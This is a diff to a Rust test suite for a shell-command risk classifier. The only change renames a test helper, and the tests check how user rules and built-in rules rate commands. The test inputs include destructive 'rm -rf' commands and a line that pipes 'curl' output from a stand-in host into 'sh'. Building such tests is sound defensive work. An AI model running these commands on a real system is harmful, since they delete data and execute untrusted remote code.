@@ -14,12 +14,12 @@ fn rule(id: &str, prefix: &[&str], level: RiskLevel) -> UserRule {
     }
 }
 
-fn judged(rules: &[UserRule], command: &str) -> CommandVerdict {
+fn verdict_with(rules: &[UserRule], command: &str) -> CommandVerdict {
     of_command(command, Shell::Bash, &UserRules::new(rules.to_vec()).unwrap())
 }
 
 fn levels(rules: &[UserRule], command: &str) -> (RiskLevel, RiskLevel) {
-    let verdict = judged(rules, command);
+    let verdict = verdict_with(rules, command);
     (verdict.level, verdict.builtin.level)
 }
 
@@ -53,7 +53,7 @@ fn lowering_affects_only_the_matching_command() {
         "rm -rf build | sh",
         "rm -rf \"$(curl -s https://x.example | sh)\" build",
     ] {
-        assert_eq!(judged(&lower, beside).level, Dangerous, "{beside}");
+        assert_eq!(verdict_with(&lower, beside).level, Dangerous, "{beside}");
     }
 }
 
@@ -62,23 +62,23 @@ fn the_strictest_matching_rule_wins_in_any_order() {
     let mut rules =
         [rule("low", &["rm", "-rf"], Caution), rule("high", &["rm", "-rf", "keep"], Blocked)];
     for _ in 0..2 {
-        assert_eq!(judged(&rules, "rm -rf keep").rule, "high");
-        assert_eq!(judged(&rules, "rm -rf build").rule, "low");
+        assert_eq!(verdict_with(&rules, "rm -rf keep").rule, "high");
+        assert_eq!(verdict_with(&rules, "rm -rf build").rule, "low");
         rules.reverse();
     }
     let two = [rule("first", &["make"], Dangerous), rule("second", &["make", "all"], Dangerous)];
-    assert_eq!(judged(&two, "make all").rule, "first");
+    assert_eq!(verdict_with(&two, "make all").rule, "first");
 }
 
 #[test]
 fn the_builtin_verdict_is_kept() {
-    let verdict = judged(&[rule("mine", &["rm", "-rf"], Caution)], "ls && rm -rf build");
+    let verdict = verdict_with(&[rule("mine", &["rm", "-rf"], Caution)], "ls && rm -rf build");
     assert_eq!((verdict.rule.as_str(), verdict.user_rule), ("mine", true));
     assert_eq!(verdict.reason, "mine says so");
     assert_eq!(verdict.builtin.rule, "delete-recursive");
     assert_eq!(verdict.builtin.span, 6..18);
     assert!(!verdict.builtin.reason.is_empty());
-    let untouched = judged(&[rule("mine", &["make"], Blocked)], "rm -rf build");
+    let untouched = verdict_with(&[rule("mine", &["make"], Blocked)], "rm -rf build");
     assert!(!untouched.user_rule);
     assert_eq!(untouched.builtin.rule, untouched.rule);
 }
@@ -98,22 +98,22 @@ fn rules_match_behind_wrappers_quotes_and_paths() {
         "f() { deploy \"$1\"; }; f prod",
         "ssh host deploy prod",
     ] {
-        assert_eq!(judged(&rules, command).level, Blocked, "{command}");
+        assert_eq!(verdict_with(&rules, command).level, Blocked, "{command}");
     }
     for command in ["deploy staging", "echo deploy prod", "prod deploy", "deploy 'prod x'"] {
-        assert!(!judged(&rules, command).user_rule, "{command}");
+        assert!(!verdict_with(&rules, command).user_rule, "{command}");
     }
     let by_path = [rule("mine", &["./deploy.sh"], Blocked)];
-    assert_eq!(judged(&by_path, "bash -c ./deploy.sh").level, Blocked);
+    assert_eq!(verdict_with(&by_path, "bash -c ./deploy.sh").level, Blocked);
     let full = [rule("mine", &["/usr/bin/make"], Blocked)];
-    assert_eq!(judged(&full, "/usr/bin/make all").level, Blocked);
-    assert_eq!(judged(&full, "make all").level, Caution);
+    assert_eq!(verdict_with(&full, "/usr/bin/make all").level, Blocked);
+    assert_eq!(verdict_with(&full, "make all").level, Caution);
 }
 
 #[test]
 fn a_rule_about_a_wrapper_counts_too() {
     for level in [Caution, Dangerous, Blocked] {
-        assert_eq!(judged(&[rule("mine", &["timeout"], level)], "timeout 5 ls").level, level);
+        assert_eq!(verdict_with(&[rule("mine", &["timeout"], level)], "timeout 5 ls").level, level);
     }
 }
 
